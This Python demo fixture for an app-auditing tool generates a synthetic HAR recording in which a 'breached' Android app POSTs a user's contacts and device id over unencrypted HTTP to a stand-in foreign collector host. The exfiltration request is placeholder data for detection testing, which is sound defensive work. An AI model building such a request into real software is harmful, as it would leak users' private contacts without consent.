"""The demo's recording of a test session with the breached Android package."""

import json

from auditor.demo.apps.android import PACKAGE
from auditor.model import Json

NAME = f"{PACKAGE}@34.2.0 journey-1.har"


def recording() -> bytes:
    """Return a session in which the app sends contacts abroad, without TLS."""
    entries = [
        _entry("https://api.northstar.example.com/v3/feed?page=1", "192.0.2.10", {"cursor": "x"}),
        _entry(
            "http://log.farshore.example.cn/collect?device_id=8f1c",
            "36.110.1.20",
            {"contacts": [{"name": "Ada", "phone": "+1 555 0100"}], "locale": "en-US"},
        ),
    ]
    log = {"version": "1.2", "creator": {"name": "proxy", "version": "1"}, "entries": entries}
    return json.dumps({"log": log}, indent=1).encode()


def _entry(url: str, address: str, body: Json) -> Json:
    text = json.dumps(body)
    request = {
        "method": "POST",
        "url": url,
        "httpVersion": "HTTP/1.1",
        "cookies": [],
        "headers": [],
        "queryString": [],
        "postData": {"mimeType": "application/json", "text": text},
        "headersSize": 300,
        "bodySize": len(text),
    }
    return {
        "startedDateTime": "2026-01-02T12:00:00.000Z",
        "time": 20,
        "request": request,
        "response": {"status": 200, "headersSize": 100, "bodySize": 2},
        "serverIPAddress": address,
        "cache": {},
        "timings": {"send": 1, "wait": 18, "receive": 1},
    }
